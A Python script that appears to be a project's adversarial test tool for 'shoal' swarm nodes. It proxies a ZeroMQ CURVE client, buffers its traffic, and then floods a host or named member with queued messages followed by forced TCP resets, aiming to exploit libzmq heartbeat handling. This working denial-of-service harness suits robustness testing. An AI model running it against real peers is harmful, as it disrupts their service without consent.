"""A stranger who fills receive queues and resets: ``resetting_caller.py INVITE WHOM HOW TIMES``.

``WHOM`` is ``host`` or the name of a member, of which an observer learns the address. ``HOW``:
``ping``: a hundred small messages with PING commands among them, in one piece, then a reset (12 kB).
``full``: some connections with messages that take long to decode, then a reset; whoever has heartbeats of libzmq's
writes one to a connection that is gone, while it works on the rest (3.7 MB a connection).
"""

from __future__ import annotations

import asyncio
import socket
import struct
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import zmq
from zmq.utils import z85

from shoal.swarm.client.observer import observe
from shoal.swarm.protocol.identity import CurveKeys
from shoal.swarm.protocol.invite import Invite
from shoal.swarm.protocol.messages import PeerToPeerPing
from shoal.swarm.protocol.wire import Envelope, encode

SMALL, LARGE, CONNECTIONS = 100, 40, 8
LARGE_BYTES = 30_000
"""As much as one frame may have; what it says does not matter where it is not read."""

_LET_IN_MS = 8000


class Tap:
    """Proxy between a well-behaved CURVE client and its victim; it can hold back what the client sends."""

    def __init__(self, victim: tuple[str, int]) -> None:
        self._victim = victim
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listening.getsockname()[1])
        self._keeps = False
        self._kept: list[bytes] = []
        threading.Thread(target=self._connect, daemon=True).start()

    def keep(self) -> None:
        self._keeps = True

    @property
    def kept_bytes(self) -> int:
        return sum(map(len, self._kept))

    def send_and_reset(self) -> None:
        try:
            self._there.sendall(b"".join(self._kept))
        except OSError:
            print("was cut off", flush=True)
        self._there.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        for one in (self._there, self._here, self._listening):
            one.close()

    def _connect(self) -> None:
        self._here, _ = self._listening.accept()
        try:
            self._there = socket.create_connection(self._victim)
        except OSError:
            self._here.close()
            return
        self._there.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=self._pass_back, daemon=True).start()
        try:
            while data := self._here.recv(2**16):
                if self._keeps:
                    self._kept.append(data)
                else:
                    self._there.sendall(data)
        except OSError:
            return

    def _pass_back(self) -> None:
        try:
            while data := self._there.recv(2**16):
                self._here.sendall(data)
        except OSError:
            return


def attack(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str) -> bool:
    """Attack once; return whether the victim has completed the handshake."""
    context, tap = zmq.Context(), Tap(victim)
    client = context.socket(zmq.DEALER)
    client.linger, client.sndhwm = 0, 0
    client.curve_publickey, client.curve_secretkey = z85.encode(me.public), z85.encode(me.secret)
    client.curve_serverkey = z85.encode(key)
    if how == "ping":
        client.heartbeat_ivl, client.heartbeat_timeout = 1, 60_000
    monitor = client.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
    client.connect(f"tcp://127.0.0.1:{tap.port}")
    if not monitor.poll(_LET_IN_MS):
        return False
    tap.keep()
    if how == "ping":
        for _ in range(SMALL):
            client.send(encode(Envelope("notice", 0, PeerToPeerPing())))
            time.sleep(0.001)  # for a PING or two in between
    else:
        large = bytes(LARGE_BYTES)
        for _ in range(LARGE):
            client.send(large)
        while tap.kept_bytes < LARGE * len(large):
            time.sleep(0.01)
    tap.send_and_reset()
    client.disable_monitor()
    client.close(0)
    context.destroy(linger=0)
    return True


def attack_often(victim: tuple[str, int], key: bytes, me: CurveKeys | None, how: str, times: int) -> None:
    """``me``: whoever the victim knows; without, somebody new each time."""
    for number in range(times):
        if how == "ping":
            done = [attack(victim, key, me or CurveKeys.fresh(), how)]
        else:
            with ThreadPoolExecutor(CONNECTIONS) as pool:
                tries = [pool.submit(attack, victim, key, me or CurveKeys.fresh(), how) for _ in range(CONNECTIONS)]
            done = [one.result() for one in tries]
        if not any(done):
            if not number:
                sys.exit("not let in")
            print("not let in any more", flush=True)
            return
        print("attacked", flush=True)


async def main(invite: Invite, whom: str, how: str, times: int) -> None:
    if whom == "host":
        attack_often((invite.addresses[0].host, invite.addresses[0].control_port), invite.key, None, how, times)
        return
    async with observe(invite) as guest:
        entry = next(one for one in guest.view.roster or () if one.name == whom)
        victim, key = (entry.address.host, entry.address.control_port), entry.certificate.curve_key
        await asyncio.to_thread(attack_often, victim, key, guest.node.control.keys, how, times)


if __name__ == "__main__":
    _, _invite, _whom, _how, _times = sys.argv
    asyncio.run(main(Invite.parse(_invite), _whom, _how, int(_times)))
